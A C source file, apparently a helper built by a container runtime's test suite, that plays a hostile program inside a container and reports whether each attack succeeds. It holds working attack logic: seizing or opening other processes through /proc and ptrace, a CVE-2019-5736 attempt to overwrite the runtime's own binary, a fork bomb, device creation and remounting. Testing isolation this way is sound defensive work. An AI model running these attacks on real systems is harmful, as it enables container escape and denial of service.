/* What a hostile program in a container does; each attack prints what came of it. Built and put in by conftest.py. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *why(long result) { return result < 0 ? strerrorname_np(errno) : "ok"; }
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
static int comm_of(const char *pid, char *to) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%.20s/comm", pid);
  int fd = open(path, O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, to, 31);
  if (fd >= 0) close(fd);
  to[n > 0 ? n - 1 : 0] = 0;
  return n > 0;
}

/* Every other process that turns up for `seconds`: while it is not yet the program `last`, look for a way in. */
static void join(double seconds, const char *last) {
  static const char *const ways[] = {"fd/4", "root/.", "cwd/.", "mem", "environ", "exe"};
  double end = now() + seconds;
  unsigned met = 0, tries = 0, leaks = 0;
  puts("watching"), fflush(stdout);
  while (now() < end && access("/tmp/stop", F_OK)) {
    DIR *d = opendir("/proc");
    for (struct dirent *x; (x = readdir(d));) {
      char path[64], before[32], after[32];
      if (x->d_name[0] < '0' || x->d_name[0] > '9' || atoi(x->d_name) == getpid()) continue;
      if (!comm_of(x->d_name, before) || !strcmp(before, last)) continue;
      met++;
      for (unsigned i = 0; i <= sizeof ways / sizeof *ways; i++) {
        int in;
        if (i == sizeof ways / sizeof *ways) {
          in = !ptrace(PTRACE_SEIZE, atoi(x->d_name), 0, 0);
        } else {
          snprintf(path, sizeof path, "/proc/%.20s/%s", x->d_name, ways[i]);
          int fd = open(path, i == 3 ? O_RDWR : i == 4 ? O_RDONLY : O_PATH);
          in = fd >= 0;
          if (fd >= 0) close(fd);
        }
        tries++;
        if (in && comm_of(x->d_name, after) && !strcmp(before, after)) {
          leaks++;
          printf("LEAK %s of %s\n", i < sizeof ways / sizeof *ways ? ways[i] : "ptrace", before);
        }
      }
    }
    closedir(d);
    while (waitpid(-1, NULL, __WALL | WNOHANG) > 0) {} /* those that were caught after all, once they ran the program */
  }
  printf("met %u tries %u leaks %u\n", met, tries, leaks);
}

/* CVE-2019-5736: hold the runtime's own binary until it can be written to. */
static void overwrite(double seconds) {
  double end = now() + seconds;
  puts("watching"), fflush(stdout);
  while (now() < end && access("/tmp/stop", F_OK)) {
    DIR *d = opendir("/proc");
    for (struct dirent *x; (x = readdir(d));) {
      char path[64], link[128] = "";
      if (x->d_name[0] < '0' || x->d_name[0] > '9' || atoi(x->d_name) == getpid()) continue;
      snprintf(path, sizeof path, "/proc/%.20s/exe", x->d_name);
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      if (readlink(path, link, sizeof link - 1) > 0 && !strstr(link, "attack") && !strstr(link, "busybox")) {
        int w = -1;
        for (int i = 0; i < 2000 && w < 0 && (i == 0 || errno == ETXTBSY); i++) {
          w = open(path, O_WRONLY);
          if (w < 0) usleep(500);
        }
        printf("found %s open %s", link, why(w));
        if (w >= 0) printf(" write %s truncate %s", why(write(w, "#!/tmp/evil\n", 12)), why(ftruncate(w, 0)));
        puts(""), fflush(stdout);
        if (w >= 0) close(w);
      }
      close(fd);
    }
    closedir(d);
  }
}

static void bomb(void) {
  for (;;)
    if (fork() < 0) usleep(1000);
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  char text[512];
  if (!strcmp(what, "join")) join(atof(argv[2]), argv[3]);
  else if (!strcmp(what, "overwrite")) overwrite(atof(argv[2]));
  else if (!strcmp(what, "bomb")) bomb();
  else if (!strcmp(what, "fds")) {
    for (int fd = 0; fd < 4096; fd++) if (fcntl(fd, F_GETFD) >= 0) printf("%d ", fd);
    puts("");
  } else if (!strcmp(what, "ids")) printf("%d %d\n", getuid(), geteuid());
  else if (!strcmp(what, "keyring")) {
    long n = syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, -3, text, sizeof text - 1);
    text[n > 0 ? n - 1 : 0] = 0;
    puts(n < 0 ? why(n) : text);
  } else if (!strcmp(what, "device")) {
    printf("mknod %s ", why(mknod("/tmp/node", S_IFCHR | 0600, makedev(atoi(argv[2]), atoi(argv[3])))));
    printf("open %s\n", why(open(argv[4], O_RDONLY)));
  } else if (!strcmp(what, "remount"))
    printf("remount %s umount %s\n", why(mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND, NULL)), why(umount2(argv[2], MNT_DETACH)));
  else if (!strcmp(what, "masked")) { /* whatever of these there is must be empty */
    for (int i = 2; i < argc; i++) {
      int fd = open(argv[i], O_RDONLY);
      printf("%s %s\n", argv[i], fd < 0 ? "absent" : read(fd, text, 1) > 0 ? "OPEN" : "empty");
    }
  } else return 2;
  return 0;
}
